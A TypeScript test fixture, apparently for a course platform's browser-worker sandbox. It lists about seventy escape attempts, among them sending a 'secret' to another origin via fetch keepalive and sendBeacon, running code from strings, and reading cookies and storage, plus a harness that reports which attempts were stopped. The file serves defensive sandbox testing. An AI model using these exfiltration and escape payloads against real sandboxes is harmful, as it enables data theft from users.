/** Attacks on the sandbox, one a line: what is tried, and whether it sends something when unprotected. */

/** Targets of an attack: the page's own origin, another one, its WebSockets, UDP. */
export interface Targets {
  same: string;
  other: string;
  ws: string;
  udp: string;
}

export interface Vector {
  name: string;
  /** Body of an async function. `same`, `other` and `ws` end in the vector's own name. It returns what it got, or throws. */
  body: string;
  /** `sends`: an unprotected worker reaches a server with it. `takes`: it gets hold of something. Neither: it works only elsewhere. */
  unprotected: "sends" | "takes" | "neither";
  /** It works under the policy alone, because it sends nothing and finds nothing of the application; the seal removes it. */
  harmless?: boolean;
  /** Learner code cannot contain this: the compiler refuses or changes it. */
  onlyRaw?: boolean;
}

const sends = (name: string, body: string): Vector => ({ name, body, unprotected: "sends" });
const takes = (name: string, body: string): Vector => ({ name, body, unprotected: "takes" });
const neither = (name: string, body: string): Vector => ({ name, body, unprotected: "neither" });
const harmless = (vector: Vector): Vector => ({ ...vector, harmless: true });
const raw = (vector: Vector): Vector => ({ ...vector, onlyRaw: true });

const nested = (how: string) => `
  const code = "fetch(" + JSON.stringify(other) + ").catch(() => {})";
  ${how}
  return "started";`;
const blob = (code: string) => `URL.createObjectURL(new Blob([${code}], { type: "text/javascript" }))`;

export const vectors: readonly Vector[] = [
  sends("fetch-same-origin", "return (await fetch(same)).text();"),
  sends("fetch-cors", "return (await fetch(other)).text();"),
  sends("fetch-no-cors", "return (await fetch(other, { mode: 'no-cors' })).type;"),
  sends(
    "fetch-keepalive",
    "return (await fetch(other, { method: 'POST', body: 'secret', keepalive: true })).text();",
  ),
  sends("fetch-request", "return (await fetch(new Request(other, { priority: 'high' }))).text();"),
  sends(
    "xhr",
    "const x = new XMLHttpRequest(); x.open('GET', other); await new Promise((ok, no) => { x.onload = ok; x.onerror = no; x.send(); }); return x.responseText;",
  ),
  sends(
    "xhr-sync",
    "const x = new XMLHttpRequest(); x.open('GET', other, false); x.send(); return x.responseText;",
  ),
  sends(
    "websocket",
    "await new Promise((ok, no) => { const s = new WebSocket(ws); s.onopen = ok; s.onerror = () => no(new Error('no socket')); }); return 'open';",
  ),
  sends("websocket-stream", "await new WebSocketStream(ws).opened; return 'open';"),
  sends(
    "event-source",
    "await new Promise((ok, no) => { const s = new EventSource(other); s.onopen = ok; s.onerror = () => no(new Error('no source')); }); return 'open';",
  ),
  sends("import-scripts", "importScripts(other); return 'ran';"),
  raw(sends("dynamic-import", "return String(await import(other));")),
  sends("font-face", "await new FontFace('leak', 'url(' + other + ')').load(); return 'loaded';"),
  harmless(sends("nested-worker-blob", nested(`new Worker(${blob("code")});`))),
  harmless(
    sends("nested-worker-data", nested("new Worker('data:text/javascript,' + encodeURIComponent(code));")),
  ),
  harmless(sends("nested-worker-module", nested(`new Worker(${blob("code")}, { type: "module" });`))),
  sends("cache-add", "await (await caches.open('leak')).add(same); return 'cached';"),
  takes("web-transport", "new WebTransport('https://' + udp + '/'); return 'made';"),
  takes("import-scripts-blob", `importScripts(${blob("'self.ran = 1'")}); return String(self.ran);`),
  takes("import-scripts-data", "importScripts('data:text/javascript,self.ran=1'); return String(self.ran);"),
  raw(
    takes(
      "dynamic-import-data",
      "return String((await import('data:text/javascript,export default 1')).default);",
    ),
  ),
  raw(takes("dynamic-import-blob", `return String((await import(${blob("'export default 1'")})).default);`)),
  takes("eval", "return String((0, eval)('1 + 1'));"),
  takes("function-constructor", "return String((() => {}).constructor('return 1')());"),
  takes("async-function-constructor", "return String(await (async () => {}).constructor('return 1')());"),
  takes("generator-constructor", "return String((function* () {}).constructor('yield 1')().next().value);"),
  takes(
    "timer-string",
    "return await new Promise((ok) => { globalThis.ok = ok; setTimeout('ok(\"ran\")', 0); });",
  ),
  takes(
    "web-assembly",
    "await WebAssembly.compile(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0])); return 'compiled';",
  ),
  takes(
    "web-assembly-instance",
    "return String(new WebAssembly.Instance(new WebAssembly.Module(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0]))));",
  ),
  takes(
    "web-assembly-by-search",
    `const seen = new Set(); const queue = [globalThis];
    for (const it of queue) {
      for (const key of Reflect.ownKeys(it)) {
        let found; try { found = it[key]; } catch { continue; }
        if ((typeof found !== "object" && typeof found !== "function") || found === null || seen.has(found)) continue;
        try { return String(new found.Module(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0]))); } catch {}
        seen.add(found); queue.push(found);
        if (queue.length > 20000) throw new Error("nothing found");
      }
    }
    throw new Error("nothing found");`,
  ),
  harmless(takes("shared-memory-clock", "return typeof new SharedArrayBuffer(8) + typeof Atomics;")),
  takes(
    "indexed-db",
    "return await new Promise((ok, no) => { const r = indexedDB.open('course'); r.onsuccess = () => ok('opened'); r.onerror = () => no(r.error); });",
  ),
  takes("indexed-db-list", "return JSON.stringify(await indexedDB.databases());"),
  takes("caches", "return JSON.stringify(await caches.keys());"),
  takes("opfs", "return (await navigator.storage.getDirectory()).kind;"),
  takes("storage-estimate", "return String((await navigator.storage.estimate()).quota);"),
  takes("locks", "return await navigator.locks.request('a', () => 'held');"),
  takes(
    "broadcast-channel",
    "return await new Promise((ok, no) => { const c = new BroadcastChannel('course'); c.onmessage = (e) => ok(String(e.data)); c.postMessage('who is there?'); setTimeout(() => no(new Error('no reply')), 400); });",
  ),
  harmless(takes("message-channel", "return typeof new MessageChannel().port1;")),
  harmless(takes("user-agent", "return navigator.userAgent;")),
  harmless(takes("location", "return location.href;")),
  takes(
    "crypto-keys",
    "return (await crypto.subtle.generateKey({ name: 'AES-GCM', length: 128 }, true, ['encrypt'])).type;",
  ),
  harmless(takes("object-url", "return URL.createObjectURL(new Blob(['x']));")),
  harmless(takes("file-reader", "return new FileReaderSync().readAsText(new Blob(['x']));")),
  harmless(takes("offscreen-canvas", "return typeof new OffscreenCanvas(1, 1).getContext('2d');")),
  harmless(takes("performance-entries", "return JSON.stringify(performance.getEntries().length);")),
  harmless(takes("close", "return typeof globalThis.close.call;")),
  harmless(takes("listen-to-the-page", "addEventListener('message', () => {}); return 'listening';")),
  harmless(
    takes(
      "prototype-post-message",
      "for (let o = globalThis; o; o = Object.getPrototypeOf(o)) { const f = Object.getOwnPropertyDescriptor(o, 'postMessage'); if (f) return 'found'; } throw new Error('nowhere');",
    ),
  ),
  harmless(
    takes(
      "prototype-event-target",
      "for (let o = globalThis; o; o = Object.getPrototypeOf(o)) if (Object.hasOwn(o, 'addEventListener')) return 'found'; throw new Error('nowhere');",
    ),
  ),
  takes("scope-constructor", "return new (globalThis.constructor.constructor)('return typeof fetch')();"),
  harmless(takes("timer", "return await new Promise((ok) => setTimeout(() => ok('fired'), 0));")),
  harmless(takes("microtask", "return await new Promise((ok) => queueMicrotask(() => ok('ran')));")),
  neither("send-beacon", "return String(navigator.sendBeacon(other, 'secret'));"),
  neither("fetch-later", "return String(fetchLater(other));"),
  neither("shared-worker", "new SharedWorker(other); return 'started';"),
  neither("service-worker", "return String(await navigator.serviceWorker.register(same));"),
  neither(
    "rtc",
    "const p = new RTCPeerConnection({ iceServers: [{ urls: 'stun:' + udp }] }); p.createDataChannel('x'); await p.setLocalDescription(); return 'offered';",
  ),
  neither("image", "new Image().src = other; return 'asked';"),
  neither("document-cookie", "return String(document.cookie);"),
  neither("cookie-store", "return JSON.stringify(await cookieStore.getAll());"),
  neither("local-storage", "return String(localStorage.length);"),
  neither("session-storage", "return String(sessionStorage.length);"),
  neither("parent", "return String(parent.document.title);"),
  neither("top-navigation", "top.location.href = other; return 'left';"),
  neither("opener", "return String(opener.location);"),
  neither("popup", "open(other); return 'opened';"),
  neither("own-navigation", "globalThis.location = other; location.assign(other); return 'left';"),
  neither("caller", "return String((function f() { return f.caller; })().arguments);"),
];

/** The vectors as a script for an unprotected worker; each reports like the engine, so that both groups compare. */
export function rawScript(targets: Targets): string {
  return `const report = (text) => postMessage(JSON.stringify({ kind: "log", line: { level: "log", text } }));\n${calls(vectors, targets)}`;
}

/** Vectors as a learner's file: they start at import, as early as learner code can. */
export function learnerSource(usable: readonly Vector[], targets: Targets): string {
  const exports = "export const answer = () => 42;\nexport const second = () => {};";
  return `// @ts-nocheck\nconst report = console.log;\n${calls(usable, targets)}\n${exports}\n`;
}

function calls(list: readonly Vector[], { same, other, ws, udp }: Targets): string {
  const bodies = list.map(({ name, body }) => {
    const targets = [same, other, ws].map((base) => JSON.stringify(base + name));
    return `attempt(${JSON.stringify(name)}, async (same, other, ws, udp) => {${body}}, [${targets.join()}, ${JSON.stringify(udp)}]);`;
  });
  return `
function attempt(name, body, targets) {
  const stopped = (e) => report(name + "\\tstopped\\t" + (e && e.name) + ": " + (e && e.message));
  try {
    body(...targets).then((got) => report(name + "\\treached\\t" + got), stopped);
  } catch (e) { stopped(e); }
}
${bodies.join("\n")}`;
}
